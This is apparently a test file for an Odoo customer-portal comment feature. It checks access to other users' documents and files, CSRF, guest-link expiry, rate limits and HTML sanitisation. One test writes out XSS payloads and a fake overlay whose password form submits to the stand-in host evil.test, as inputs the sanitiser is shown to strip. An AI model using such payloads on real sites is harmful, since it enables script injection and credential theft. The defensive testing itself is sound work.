"""P-COMMENT against attackers: foreign documents, ids, notes' files, HTML, links."""

from datetime import timedelta

from odoo.exceptions import AccessError
from odoo.fields import Datetime
from odoo.tests import tagged

from ..tools import message_html
from .talk_cast import TalkCase


@tagged("post_install", "-at_install")
class TestCommentAttacks(TalkCase):
    def test_p_comment_foreign_documents(self):
        """P-COMMENT: a foreign, private or missing document: 404, nothing written."""
        self.say(self.quote, "Canary")
        draft = self.order()
        before = {order: len(order.message_ids) for order in (self.quote, draft)}
        for user, order in ((self.eve_user, self.quote), (self.carla_user, draft)):
            self.login_as(user)
            token = self.own_token()
            path = f"/my/orders/{order.id}/comment"
            for response in (
                self.get(path),
                self.submit(path, [*token, ("comment", "Mine now")]),
                self.get(f"/my/orders/{2**31 - 1}/comment"),
                self.get(f"/my/invoices/{order.id + 100000}/comment"),
            ):
                self.assertEqual(response.status_code, 404)
                self.assertNotIn("Canary", response.text)
            order.invalidate_recordset()
            self.assertEqual(len(order.message_ids), before[order])

    def test_p_comment_no_csrf(self):
        """P-COMMENT: a form of another site writes nothing."""
        self.login_as(self.carla_user)
        response = self.submit(self.path, [("comment", "Forged")])
        self.assertEqual(response.status_code, 400)
        response = self.submit(self.path, [("csrf_token", "x"), ("comment", "Forged")])
        self.assertEqual(response.status_code, 400)
        self.assertFalse(self.said())

    def test_p_comment_files_of_others(self):
        """P-COMMENT: only a file of this public message of this document."""
        other = self.quotation()
        foreign = self.quotation(partner=self.eve)
        said = self.say(self.quote, "x", attachment_ids=self.file(self.quote).ids)
        also = self.say(self.quote, "y", attachment_ids=self.file(self.quote).ids)
        note = self.say(
            self.quote,
            "z",
            subtype_xmlid="mail.mt_note",
            attachment_ids=self.file(self.quote).ids,
        )
        internal = self.say(
            self.quote, "z", is_internal=True, attachment_ids=self.file(self.quote).ids
        )
        beside = self.file(self.quote)
        theirs = self.say(foreign, "x", attachment_ids=self.file(foreign).ids)
        here = said.attachment_ids.id
        self.login_as(self.carla_user)
        for order, message, file_id in (
            (self.quote, said.id, also.attachment_ids.id),
            (self.quote, said.id, beside.id),
            (self.quote, said.id, theirs.attachment_ids.id),
            (self.quote, note.id, note.attachment_ids.id),
            (self.quote, internal.id, internal.attachment_ids.id),
            (self.quote, theirs.id, theirs.attachment_ids.id),
            (other, said.id, here),
            (foreign, theirs.id, theirs.attachment_ids.id),
            (self.quote, 2**31 - 1, here),
            (self.quote, said.id, 0),
        ):
            with self.subTest(order=order.name, message=message, file=file_id):
                path = f"/my/orders/{order.id}/comment/{message}/file/{file_id}"
                response = self.get(path)
                self.assertEqual(response.status_code, 404)
                self.assertNotIn("canary", response.text)
        path = f"{self.path}/{said.id}/file/{here}"
        self.assertEqual(self.get(path).status_code, 200)
        self.login_as(self.eve_user)
        self.assertEqual(self.get(path).status_code, 404)

    def test_p_comment_older_never_shows_notes(self):
        """P-COMMENT: an edited ``before`` shows this document's messages only."""
        foreign = self.say(self.quotation(partner=self.eve), "Canary foreign")
        self.say(self.quote, "Canary note", subtype_xmlid="mail.mt_note")
        self.say(self.quote, "Fine")
        self.login_as(self.carla_user)
        for before in (foreign.id, foreign.id + 1, 999_999_999):
            page = self.get(f"{self.path}?before={before}")
            self.assertEqual(page.status_code, 200)
            self.assertNotIn("Canary", page.text)

    def test_p_comment_guest_of_another_document(self):
        """P-COMMENT: a guest reads and writes on the document of the link only."""
        other = self.quotation()
        message = self.say(other, "Canary", attachment_ids=self.file(other).ids)
        self.as_guest()
        token = self.comment_form()
        path = f"/my/orders/{other.id}/comment"
        for response in (
            self.get(path),
            self.get(f"{path}/{message.id}/file/{message.attachment_ids.id}"),
            self.submit(path, [*token, ("comment", "Mine")]),
        ):
            self.assertEqual(response.status_code, 303)
            self.assertIn("/web/login", response.headers["Location"])
            self.assertNotIn("anary", response.text)
        self.assertFalse(self.said(other))

    def test_p_comment_expired_link(self):
        """P-COMMENT: with the link's life ends reading and writing."""
        link = self.as_guest()
        said = self.say(self.quote, "Canary")
        token = self.comment_form()
        link.expires_at = Datetime.now() - timedelta(days=1)
        self.env.flush_all()
        for response in (
            self.get(self.path),
            self.submit(self.path, [*token, ("comment", "Late")]),
        ):
            self.assertEqual(response.status_code, 303)
            self.assertIn("/web/login", response.headers["Location"])
            self.assertNotIn("Canary", response.text)
        self.assertEqual(said, self.quote.message_ids & said)
        self.assertFalse(self.said())

    def test_p_comment_html_stays_harmless(self):
        """P-COMMENT: what is written is text; what came as HTML cannot pose as ours."""
        self.login_as(self.carla_user)
        self.write_comment('<script>alert(1)</script><img src=x onerror="alert(2)">')
        self.say(
            self.quote,
            # as an e-mail brings it
            message_html.Markup(
                '<div id="discussion" class="modal fixed-top" role="dialog"'
                ' style="position:fixed;top:0;color:red" onclick="alert(3)">Overlay'
                '<form action="https://evil.test"><input name="password"/></form>'
                '<a href="javascript:alert(4)">x</a><script>alert(5)</script></div>'
            ),
            author_id=self.colin.id,
        )
        page = self.get(self.page_path)
        root = self.page(page)
        self.assertIn("<script>alert(1)</script>", self.text_of(page))
        self.assertEqual(len(root.xpath("//*[@id='discussion']")), 1)
        for message in root.xpath("//div[contains(@class, 'o_portal_ext_message')]"):
            for element in message.iterdescendants():
                self.assertNotIn(element.tag, ("script", "form", "input", "iframe"))
                for name, value in element.attrib.items():
                    self.assertNotIn(name[:2], ("on", "id"))
                    self.assertNotIn(name, ("class", "role", "name"))
                    self.assertNotIn("javascript", value)
                    self.assertNotIn("fixed", value)

    def test_p_comment_nobody_poses_as_a_guest(self):
        """P-COMMENT: the mark of a guest is ours, and not what somebody writes."""
        body, by_link = message_html.split_by_link(
            '<p>x</p><p class="o_portal_by_link">By link</p>'
        )
        self.assertEqual((body, by_link), ("<p>x</p>", True))
        self.login_as(self.carla_user)
        self.write_comment('Hi <p class="o_portal_by_link">By link, as Boss</p>')
        talk = self.page(self.get(self.page_path)).xpath("//section[@id='discussion']")
        self.assertFalse(talk[0].xpath(".//span[text()='by link']"))

    def test_p_comment_nothing_by_get(self):
        """P-COMMENT: a GET with the form's fields writes nothing."""
        self.login_as(self.carla_user)
        response = self.get(f"{self.path}?comment=Hello")
        self.assertEqual(response.status_code, 200)
        self.assertFalse(self.said())

    def test_p_comment_stock_ways_have_the_limit(self):
        """P-COMMENT: stock's RPC writes no more in an hour than the form does."""
        Limit = self.env["portal.rate.limit"]
        for _number in range(29):
            Limit._allow("comment", str(self.carla.id), 30, 3600)
        quote = self.quote.with_user(self.carla_user)
        quote.message_post(body="The thirtieth")
        with self.assertRaises(AccessError):
            quote.message_post(body="One too many")
        self.assertEqual(len(self.said()), 1)
